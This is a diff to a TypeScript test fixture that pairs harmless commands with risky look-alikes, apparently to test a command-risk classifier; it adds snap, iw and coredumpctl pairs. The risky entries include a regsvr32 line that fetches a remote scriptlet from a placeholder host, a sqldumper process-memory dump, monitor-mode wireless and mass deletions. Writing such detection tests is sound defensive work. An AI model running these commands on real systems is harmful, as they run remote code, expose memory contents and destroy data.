@@ -68,6 +68,19 @@ const FAMILIES: Record<string, [string, string][]> = {
     ],
     ["regsvr32 /?", "regsvr32 /? /s /i:https://x.example.net/a.sct scrobj.dll"],
   ],
+  "snap's own queries (src/risk/rules/packages.ts)": [
+    ["snap find vlc", "snap remove --purge lxd"],
+    ["snap changes", "snap install --dangerous ./tool.snap"],
+    ["snap connections firefox", "snap remove firefox"],
+  ],
+  "a wireless link's state shown (src/risk/rules/structure.ts)": [
+    ["iw dev wlan0 link", "iw dev wlan0 disconnect"],
+    ["iw dev wlp2s0 link", "iw dev wlan0 set type monitor"],
+  ],
+  "a crash's record read, not a process dumped (src/risk/rules/windows-handoff.ts)": [
+    ["coredumpctl info 4242", "coredumpctl dump 4242 -o core"],
+    ["coredumpctl list 4242", "sqldumper 464 0 0x0110"],
+  ],
   "only what nothing uses any more (src/risk/rules/general.ts)": [
     ["flatpak uninstall --unused", "flatpak remove --unused --all"],
     ["flatpak remove --unused -y", "kubectl delete pods --all"],
